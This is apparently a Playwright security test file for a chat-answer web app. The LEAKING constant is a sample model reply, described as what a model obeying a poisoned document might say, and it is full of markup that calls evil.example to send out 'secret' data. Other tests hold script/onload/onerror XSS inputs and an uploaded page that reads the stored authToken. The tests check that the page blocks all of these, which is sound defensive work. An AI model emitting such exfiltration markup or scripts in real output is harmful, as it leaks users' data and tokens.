import { createKnowledgeItem, downloadKnowledgeFile } from '@cuecard/contract/knowledge/knowledge.ts'
import { apiAs, untilSynced } from '../support/calls.ts'
import { expect, test } from '../support/fixtures.ts'
import { messageRow, openTranscript } from '../support/live-answer.ts'
import { ADMIN } from '../support/people.ts'
import { writeSandboxFile } from '../support/sandbox-file.ts'
import { openSession, storedToken } from '../support/sign-in.ts'

const EVIL = 'http://evil.example'
/** What a model that obeys a poisoned document might say, to carry something out of the house. */
const LEAKING = `Our response time is one hour [1].

![a](${EVIL}/a?d=secret) ![b][ref] [![c](${EVIL}/c.png?d=secret)](${EVIL}/link)

[ref]: ${EVIL}/b?d=secret

<img src="${EVIL}/img?d=secret"> <link rel="prefetch" href="${EVIL}/prefetch"> <base href="${EVIL}/">
<style>@import url(${EVIL}/style.css); body { background: url(${EVIL}/bg) }</style>
<form action="${EVIL}/form"><input name="d" value="secret"></form><iframe src="${EVIL}/frame"></iframe>

That is all there is to say.`

/** What a model writes about code, and what it must not do: every character of it is the answer. */
const ODD =
  'Put <your-token> into the header, and keep List<String> as it is [1]. ' +
  'Then a <script>window.ran = 1</script> and a <style>b{}</style> come, <button>press</button> and <marquee>run</marquee>, ' +
  'a <svg onload=window.ran=1> tag, 3 < 4 and 5 > 2, items[0] and [x], an <unclosed tag and a lone ` mark.'

test.use({ modelReplies: { answer: LEAKING, explain: LEAKING } })

test.beforeEach(async ({ app }) => untilSynced(await apiAs(app.url, ADMIN)))

test('check 65: an answer that tries to carry something out makes the page ask nobody else', async ({ page, app }) => {
  const elsewhere: string[] = []
  page.on('request', (request) => {
    const { protocol, origin } = new URL(request.url())
    if (protocol.startsWith('http') && origin !== app.url) elsewhere.push(request.url())
  })
  const login = await page.goto('/login')
  const policy = login?.headers()['content-security-policy'] ?? ''
  for (const rule of ["img-src 'self' data: blob:", "connect-src 'self'", "object-src 'none'", "base-uri 'none'"])
    expect(policy.split(';').map((each) => each.trim())).toContain(rule)
  await openSession(page, ADMIN)
  const question = 'How fast is your support?'
  const { path } = await writeSandboxFile([{ username: 'Customer', message: question }], 3)
  await openTranscript(page, path)
  const row = messageRow(page, question)
  for (const [button, region] of [
    [/Get Answer/, 'Answer'],
    [/Explain To Me/, 'Explanation'],
  ] as const) {
    await row.getByRole('button', { name: button }).click()
    const shown = row.getByRole('region', { name: region })
    await expect(shown).toHaveAttribute('data-status', 'done')
    await expect(shown).toContainText('That is all there is to say.')
    await expect(shown.locator('img, iframe, form, link, style, base')).toHaveCount(0)
  }
  expect(elsewhere).toEqual([])
})

test.describe('odd words of a model', () => {
  test.use({ modelReplies: { answer: ODD, explain: ODD, isInstant: true, chunkSize: 1 } })

  test('are shown whole, cut at every character while they arrive, and run nothing', async ({ page }) => {
    await openSession(page, ADMIN)
    const question = 'How fast is your support in the tests?'
    const { path } = await writeSandboxFile([{ username: 'Customer', message: question }], 3)
    await openTranscript(page, path)
    const row = messageRow(page, question)
    await row.getByRole('button', { name: /Get Answer/ }).click()
    const answer = row.getByRole('region', { name: 'Answer' })
    await expect(answer).toHaveAttribute('data-status', 'done')
    const shown = (await answer.locator('.cc-reading').textContent()) ?? ''
    // No passage speaks of headers: that citation alone is left out.
    expect(shown).toBe(ODD.replace(' [1]', ''))
    expect(await page.evaluate(() => 'ran' in window)).toBe(false)
  })
})

test('check 49: an uploaded web page opened by its address is saved, and runs nothing on our origin', async ({
  page,
  app,
  browser,
}) => {
  const api = await apiAs(app.url, ADMIN)
  const html = `<!doctype html><title>still</title><p>Words.</p>
    <script>document.title = 'ran: ' + localStorage.getItem('authToken')</script><img src=x onerror="document.title='ran'">`
  const upload = (name: string, type: string) =>
    api(createKnowledgeItem, {
      form: { name, type: 'file', add_anyway: true },
      files: { file: new File([html], name, { type }) },
    })
  const item = await upload('page.html', 'text/html')
  await expect(upload('picture.svg', 'image/svg+xml')).rejects.toMatchObject({ status: 422 })
  await openSession(page, ADMIN)
  const address = `${app.url}/api${downloadKnowledgeFile.path.replace(':id', item.id)}`

  // The worst case: somebody's browser sends the token with the address.
  const bearer = { authorization: `Bearer ${await storedToken(page)}` }
  const theirs = await browser.newContext({ extraHTTPHeaders: bearer })
  const tab = await theirs.newPage()
  const download = tab.waitForEvent('download')
  await expect(tab.goto(address)).rejects.toThrow(/Download is starting/)
  expect((await download).suggestedFilename()).toBe('page.html')

  // Even where something on the way drops what says "save this" and what type it is.
  await tab.route(address, async (route) => {
    const reply = await route.fetch()
    const { 'content-disposition': _disposition, 'x-content-type-options': _sniff, ...headers } = reply.headers()
    await route.fulfill({ response: reply, headers: { ...headers, 'content-type': 'text/html' } })
  })
  await tab.goto(address)
  await expect(tab.getByText('Words.')).toBeVisible()
  expect(await tab.title()).toBe('still')
  expect(await tab.evaluate(() => window.origin)).toBe('null')
  await theirs.close()
})
